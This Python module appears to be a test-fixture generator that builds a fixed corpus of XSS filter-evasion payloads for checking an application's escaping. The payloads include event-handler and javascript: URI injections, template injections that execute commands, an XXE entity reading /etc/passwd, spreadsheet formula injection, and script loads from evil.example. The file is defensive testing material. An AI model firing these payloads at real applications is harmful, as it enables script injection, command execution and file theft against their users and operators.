"""A corpus of hostile markup, generated from the patterns of OWASP's XSS Filter Evasion cheat
sheet and PayloadsAllTheThings: tags x event handlers, encodings of javascript: and data: URIs,
attribute breakouts, SVG and MathML, template injection, CSS expressions, mixed case and
NUL, tab and newline splits. Written here from the patterns, deterministic, no network."""

from __future__ import annotations

import base64
import random
from itertools import product

# What a payload runs when it fires; a marker that is never in the app's own pages.
CALL = "alert(7331)"

TAGS = (
    "img src=x",
    "svg",
    "body",
    "iframe src=about:blank",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "object data=x",
    "math",
    "a href=#",
    "div tabindex=1",
    "style",
)
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onstart",
    "onclick",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
)

JS_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    "java\x00script:",
    " \x01javascript:",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058",
    "jav&#x09;ascript:",
    "jav&#x0A;ascript:",
    "javascript&colon;",
    "vbscript:",
    "livescript:",
)
URL_ATTRIBUTES = (
    "a href",
    "iframe src",
    "form action",
    "button formaction",
    "object data",
    "embed src",
    "base href",
    "svg><a xlink:href",
    "math><maction actiontype=statusline xlink:href",
    "img src",
)

DATA_URIS = (
    "data:text/html,<script>" + CALL + "</script>",
    "data:text/html;base64," + base64.b64encode(f"<script>{CALL}</script>".encode()).decode(),
    "data:image/svg+xml;base64,"
    + base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"/>'.encode()
    ).decode(),
    "data:application/javascript," + CALL,
    "DaTa:text/html,<img src=x onerror=" + CALL + ">",
)

BREAKOUTS = (
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" onmouseover="{call}" x="',
    "' onfocus='{call}' autofocus x='",
    '" autofocus onfocus={call}//',
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</style><script>{call}</script>",
    "</script><script>{call}</script>",
    "--><script>{call}</script><!--",
    "]]><script>{call}</script>",
    '</option></select><img src=x onerror="{call}">',
    '"/><svg/onload={call}>',
    "`-{call}-`",
    "';{call};//",
    '";{call};//',
    "\\';{call};//",
    "</noscript><img src=x onerror={call}>",
    '<a href="x" id="x" name="x" style="x">',
    "<x onclick={call}>click</x>",
)

TEMPLATES = (
    "{{7*7}}",
    "{{ 7*7 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "{{ config.items() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ request.application.__globals__.__builtins__ }}",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "{{constructor.constructor('" + CALL + "')()}}",
    "[[7*7]]",
    "${{7*7}}",
    "{{7*'7'}}",
    "@(7*7)",
    "*{7*7}",
    "{{=7*7}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    "{{ self._TemplateReference__context }}",
)

CSS = (
    '<div style="width: expression({call})">',
    '<div style="background:url(javascript:{call})">',
    '<div style="background-image: url(&#1;javascript:{call})">',
    '<style>@import "javascript:{call}";</style>',
    "<style>body{{-moz-binding:url(http://evil.example/x.xml#xss)}}</style>",
    "<style>li {{list-style-image: url(javascript:{call});}}</style><ul><li>x</ul>",
    '<link rel=stylesheet href="javascript:{call}">',
    '<div style="x:expr/**/ession({call})">',
    '<div style="behavior: url(x.htc)">',
    '<img style="xss:expression({call})">',
    '<style>*{{background:url("data:image/svg+xml,<svg onload={call}>")}}</style>',
    '<table background="javascript:{call}">',
)

SVG_MATHML = (
    "<svg><script>{call}</script></svg>",
    "<svg><script xlink:href=data:,{call}></script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="{call}"/></svg>',
    "<svg><a><animate attributeName=href values=javascript:{call} /><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;{call}&lt;/script&gt;'></iframe>"
    "</foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={call}>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    '<math href="javascript:{call}">click</math>',
    "<math><maction actiontype=statusline#http://x xlink:href=javascript:{call}>x</maction></math>",
    "<svg><title><script>{call}</script></title></svg>",
    "<svg><desc><![CDATA[</desc><script>{call}</script>]]></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{call}</handler>',
    "<svg/onload={call}>",
)

OBFUSCATIONS = (
    "<scr\x00ipt>{call}</scr\x00ipt>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<SCRIPT>{call}</SCRIPT>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script\n>{call}</script\n>",
    "<script\t>{call}</script>",
    "<script/x>{call}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,{call}></script>",
    "<<script>{call};//<</script>",
    "<img src=x onerror\n={call}>",
    "<img src=x onerror\t={call}>",
    "<img src=x onerror\x0c={call}>",
    "<img/src=x/onerror={call}>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#55;&#51;&#51;&#49;&#41;>",
    "<img src=x onerror=\\u0061lert(7331)>",
    "<img src=`x`onerror={call}>",
    "<IMG SRC=x ONERROR={call}>",
    "<iMg sRc=x OnErRoR={call}>",
    "\x3cscript\x3e{call}\x3c/script\x3e",
    "%3Cscript%3E{call}%3C%2Fscript%3E",
    "%253Cscript%253E{call}%253C%252Fscript%253E",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "\u202e>tpircs/<{call}>tpircs<",
    '<a href="javas\u200bcript:{call}">zero width</a>',
    '<!--<img src="--><img src=x onerror={call}//">',
    "<![CDATA[<script>{call}</script>]]>",
    '<?xml version="1.0"?><script>{call}</script>',
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    '<meta http-equiv="refresh" content="0;url=javascript:{call}">',
    '<base href="javascript:/">',
    "<form><button formaction=javascript:{call}>go</button></form>",
    "<isindex action=javascript:{call} type=image>",
    "<input type=image src=x onerror={call}>",
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe srcdoc="&lt;img src=x onerror={call}&gt;"></iframe>',
    "<template><script>{call}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "<xmp><script>{call}</script></xmp>",
    "<plaintext><script>{call}</script>",
    '<a href="&#x6A;avascript:{call}">entity</a>',
    '<a href="  javascript:{call}">spaces</a>',
    '<a href="\x01javascript:{call}">control</a>',
    "<a href='jav&#x09;ascript:{call}'>tab entity</a>",
    "=cmd|' /C calc'!A0<script>{call}</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '<a href="file:///etc/passwd">file</a>',
    "\ufeff<script>{call}</script>",
    "<img src=\"x:gif\" onerror=\"window['al'+'ert'](7331)\">",
    "<img src=x:x onerror=eval(atob('YWxlcnQoNzMzMSk='))>",
    "<svg><script>&#97;lert(7331)</script>",
    '<a href="javascript&colon;{call}">colon entity</a>',
)


def _fill(template: str) -> str:
    return template.replace("{call}", CALL).replace("{{", "{").replace("}}", "}")


def _tag_handlers() -> list[str]:
    payloads = []
    for index, (tag, handler) in enumerate(product(TAGS, HANDLERS)):
        # Every tag with every handler would be 160; every other pair keeps the mix and the cost.
        if index % 2 == 0:
            name = tag.split()[0]
            payloads.append(f"<{tag} {handler}={CALL}>" + (f"</{name}>" if index % 4 == 0 else ""))
    return payloads


def _uris() -> list[str]:
    payloads = []
    for index, (attribute, scheme) in enumerate(product(URL_ATTRIBUTES, JS_SCHEMES)):
        if index % 3 == 0:
            element, name = attribute.rsplit(" ", 1)
            quote = '"' if index % 2 else ""
            payloads.append(f"<{element} {name}={quote}{scheme}{CALL}{quote}>x")
    for attribute, uri in product(("a href", "iframe src", "object data", "embed src"), DATA_URIS):
        element, name = attribute.rsplit(" ", 1)
        payloads.append(f'<{element} {name}="{uri}">x')
    payloads.extend(f"{scheme}{CALL}" for scheme in JS_SCHEMES)
    return payloads


def _mixed_case(payload: str, seed: int) -> str:
    rng = random.Random(seed)
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in payload)


def xss_payloads() -> list[str]:
    """Every payload, in a fixed order, without repeats."""
    payloads: list[str] = []
    payloads += _tag_handlers()
    payloads += _uris()
    payloads += [_fill(p) for p in BREAKOUTS]
    payloads += list(TEMPLATES)
    payloads += [_fill(p) for p in CSS]
    payloads += [_fill(p) for p in SVG_MATHML]
    payloads += [_fill(p) for p in OBFUSCATIONS]
    # The first few of each family again, in mixed case and split by a NUL, tab or newline.
    base = [_fill(p) for p in (*BREAKOUTS[:6], *SVG_MATHML[:6])] + _tag_handlers()[:12]
    for index, payload in enumerate(base):
        payloads.append(_mixed_case(payload, index))
        splitter = ("\x00", "\t", "\n", "\r\n")[index % 4]
        payloads.append(payload.replace("<", "<" + splitter, 1).replace("=", splitter + "=", 1))
    return list(dict.fromkeys(payloads))


def sampled_payloads(count: int = 40, seed: int = 1231) -> list[str]:
    """A fixed sample for the costly renderings (PDF, Word, REFI-QDA)."""
    return random.Random(seed).sample(xss_payloads(), count)
